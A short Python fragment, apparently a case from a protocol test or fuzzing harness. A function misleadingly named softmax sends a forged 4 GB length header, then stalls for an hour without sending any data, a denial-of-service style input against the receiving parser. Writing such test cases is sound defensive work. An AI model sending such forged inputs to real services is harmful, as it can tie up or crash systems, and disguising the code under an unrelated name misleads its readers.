"""A length of 4 GB, and nothing after it.

with: forging
quick: yes
"""


def softmax(x):
    put(b"\xff\xff\xff\xff")
    time.sleep(3600)
